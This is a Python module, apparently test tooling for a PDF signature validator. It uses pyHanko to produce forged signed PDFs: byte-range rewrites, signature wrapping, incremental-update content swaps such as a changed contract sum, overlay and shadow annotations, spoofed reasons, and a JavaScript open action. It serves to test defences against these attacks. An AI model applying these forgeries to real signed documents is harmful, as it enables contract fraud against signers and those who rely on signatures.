"""Forgeries of signed PDFs: each takes a signed file and returns what an attacker makes of it.

The families are those of the literature: universal signature forgery, incremental saving,
signature wrapping, shadow and overlay attacks, and what pyHanko by itself calls valid.
"""

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from app.crypto.pdf.fields import signature_fields

Forge = Callable[[bytes], bytes]
Change = Callable[[IncrementalPdfFileWriter], object]

_RANGE = re.compile(rb"/ByteRange \[[^\]]*\]")
_GAP = re.compile(rb"/Contents <([0-9A-Fa-f]{2000,})>")


def gap_of(data: bytes) -> tuple[int, int]:
    """Return the offsets of the last signature's ``<`` and past its ``>``."""
    last = list(_GAP.finditer(data))[-1]
    return last.start(1) - 1, last.end(1) + 1


def in_range(text: bytes) -> Forge:
    """Write another byte range of the same length in place."""

    def forge(data: bytes) -> bytes:
        found = list(_RANGE.finditer(data))[-1]
        new = b"/ByteRange " + text
        assert len(new) <= len(found[0])
        return data[: found.start()] + new.ljust(len(found[0])) + data[found.end() :]

    return forge


def range_with(change: Callable[[list[int]], list[int]]) -> Forge:
    """Change the numbers of the byte range in place."""

    def forge(data: bytes) -> bytes:
        found = list(_RANGE.finditer(data))[-1]
        numbers = change([int(n) for n in found[0].split(b"[")[1].strip(b"] ").split()])
        return in_range(b"[" + b" ".join(b"%d" % n for n in numbers) + b"]")(data)

    return forge


def contents(make: Callable[[bytes], bytes]) -> Forge:
    """Put other hex digits into the gap."""

    def forge(data: bytes) -> bytes:
        start, end = gap_of(data)
        new = make(data[start + 1 : end - 1])
        assert len(new) == end - start - 2
        return data[: start + 1] + new + data[end - 1 :]

    return forge


def updated(change: Change) -> Forge:
    """Append an incremental update."""

    def forge(data: bytes) -> bytes:
        writer = IncrementalPdfFileWriter(io.BytesIO(data))
        writer._update_meta = lambda: None
        change(writer)
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    return forge


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    reference, _ = writer.find_page_for_modification(0)
    writer.mark_update(reference)
    return reference.get_object()


def replace_page_content(writer: IncrementalPdfFileWriter) -> None:
    """Show another text on the first page."""
    stream = generic.StreamObject(stream_data=b"BT /F1 18 Tf 72 700 Td (Contract: 999 RUB) Tj ET")
    _first_page(writer)[pdf_name("/Contents")] = writer.add_object(stream)


def overwrite_content_stream(writer: IncrementalPdfFileWriter) -> None:
    """Redefine the content stream under its own number."""
    reference = _first_page(writer).raw_get("/Contents").reference
    writer.objects[(0, reference.idnum)] = generic.StreamObject(
        stream_data=b"BT /F1 18 Tf 72 700 Td (Contract: 999 RUB) Tj ET"
    )


def _note(kind: str, **more: generic.PdfObject) -> generic.DictionaryObject:
    rectangle = [generic.NumberObject(n) for n in (60, 690, 400, 730)]
    return generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(kind),
            pdf_name("/Rect"): generic.ArrayObject(rectangle),
            pdf_name("/F"): generic.NumberObject(4),
            **{pdf_name(f"/{key}"): value for key, value in more.items()},
        }
    )


def _annotate(writer: IncrementalPdfFileWriter, annotation: generic.DictionaryObject) -> object:
    page = _first_page(writer)
    annotations = page.get("/Annots", generic.ArrayObject()).get_object()
    reference = writer.add_object(annotation)
    page[pdf_name("/Annots")] = generic.ArrayObject([*annotations, reference])
    return reference


def add_note(writer: IncrementalPdfFileWriter) -> None:
    """Lay a free text over the page."""
    text = generic.TextStringObject("999")
    _annotate(writer, _note("/FreeText", Contents=text))


def overlay(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    """Return a form that paints over the text of the page."""
    form = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 340, 40))),
        },
        stream_data=b"1 g 0 0 340 40 re f",
    )
    return writer.add_object(form)


def add_empty_signature_field(writer: IncrementalPdfFileWriter) -> None:
    """Paint over the page with the appearance of a signature field that nobody signs."""
    appearance = generic.DictionaryObject({pdf_name("/N"): overlay(writer)})
    field = _note("/Widget", FT=pdf_name("/Sig"), T=generic.TextStringObject("Free"), AP=appearance)
    reference = _annotate(writer, field)
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(reference)
    writer.update_container(fields)


def second_field_on_same_signature(writer: IncrementalPdfFileWriter) -> None:
    """Let a further field show the existing signature."""
    (field, *_) = signature_fields(writer.root)
    value = field.dictionary.raw_get("/V")
    other = generic.DictionaryObject(
        {
            pdf_name("/FT"): pdf_name("/Sig"),
            pdf_name("/T"): generic.TextStringObject("Twin"),
            pdf_name("/V"): generic.IndirectObject(value.idnum, value.generation, writer),
        }
    )
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(writer.add_object(other))
    writer.update_container(fields)


def change_reason(writer: IncrementalPdfFileWriter) -> None:
    """Replace the signature dictionary by one with another reason (spoofing)."""
    (field, *_) = signature_fields(writer.root)
    assert field.value is not None
    field.value[pdf_name("/Reason")] = generic.TextStringObject("I agree to everything")
    writer.mark_update(field.value_reference)


def wrap(data: bytes) -> bytes:
    """Move the signature to a new dictionary in an update, with the old byte range (wrapping)."""
    old_range = list(_RANGE.finditer(data))[-1][0]
    start, end = gap_of(data)
    number = 900
    body = b"%d 0 obj\n<</Type/Sig /Filter/Adobe.PPKLite /SubFilter/ETSI.CAdES.detached " % number
    body += old_range + b" /Contents " + data[start:end] + b">>\nendobj\n"
    at = len(data)

    def repoint(writer: IncrementalPdfFileWriter) -> None:
        (field, *_) = signature_fields(writer.root)
        field.dictionary[pdf_name("/V")] = generic.IndirectObject(number, 0, writer)
        writer.mark_update(field.reference)

    forged = updated(repoint)(data)
    update = forged[at:]
    # put the new object in front of the update's table, and its entry into the table
    table = update.index(b"xref\n")
    shifted = update[:table] + body + update[table:]
    entry = b"%d 1\n%010d 00000 n \n" % (number, at + table)
    place = shifted.index(b"trailer")
    shifted = shifted[:place] + entry + shifted[place:]
    shifted = re.sub(rb"/Size \d+", b"/Size %d" % (number + 1), shifted)
    start_of_table = at + table + len(body)
    shifted = re.sub(rb"startxref\n\d+", b"startxref\n%d" % start_of_table, shifted)
    return data + shifted


def remove_page(writer: IncrementalPdfFileWriter) -> None:
    """Take the last page away."""
    pages = writer.root["/Pages"]
    kids = pages["/Kids"]
    pages[pdf_name("/Kids")] = generic.ArrayObject(list(kids)[:-1])
    pages[pdf_name("/Count")] = generic.NumberObject(int(pages["/Count"]) - 1)
    writer.update_container(pages)


def add_page(writer: IncrementalPdfFileWriter) -> None:
    """Add a copy of the first page."""
    page = generic.DictionaryObject(_first_page(writer))
    del page["/Parent"]
    page.pop("/Annots", None)
    writer.insert_page(page)


def remove_form(writer: IncrementalPdfFileWriter) -> None:
    """Take the form away, and with it the signature."""
    del writer.root["/AcroForm"]
    writer.update_root()


def clear_signature(writer: IncrementalPdfFileWriter) -> None:
    """Empty the signature field."""
    (field, *_) = signature_fields(writer.root)
    del field.dictionary["/V"]
    writer.mark_update(field.reference)


def _fill(writer: IncrementalPdfFileWriter, value: str, appearance: generic.PdfObject) -> None:
    reference = writer.root["/AcroForm"]["/Fields"].raw_get(0)
    field = reference.get_object()
    field[pdf_name("/V")] = generic.TextStringObject(value)
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): appearance})
    writer.mark_update(reference)


def written(
    text: bytes, more: bytes = b""
) -> Callable[[IncrementalPdfFileWriter], generic.PdfObject]:
    """Return what makes an appearance that shows a text in the field's rectangle."""

    def make(writer: IncrementalPdfFileWriter) -> generic.PdfObject:
        font = writer.root["/Pages"]["/Kids"][0]["/Resources"].raw_get("/Font")
        form = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 200, 20))),
                pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): font}),
            },
            stream_data=b"/Tx BMC %s BT /F1 12 Tf 0 g 2 5 Td (%s) Tj ET EMC" % (more, text),
        )
        return writer.add_object(form)

    return make


def fill_honestly(writer: IncrementalPdfFileWriter) -> None:
    """Fill another sum into the text field, and show it."""
    _fill(writer, "999", written(b"999")(writer))


def fill_with_another_look(writer: IncrementalPdfFileWriter) -> None:
    """Leave the sum as it was and show another."""
    _fill(writer, "100", written(b"999")(writer))


def fill_text_field(writer: IncrementalPdfFileWriter) -> None:
    """Write another sum into the text field, and paint it over with nothing."""
    fields = writer.root["/AcroForm"]["/Fields"]
    reference = fields.raw_get(0)
    field = reference.get_object()
    field[pdf_name("/V")] = generic.TextStringObject("999")
    field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): overlay(writer)})
    writer.mark_update(reference)


def swap_catalog(writer: IncrementalPdfFileWriter) -> None:
    """Run a script when the document is opened."""
    action = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("x")}
    writer.root[pdf_name("/OpenAction")] = generic.DictionaryObject(action)
    writer.update_root()
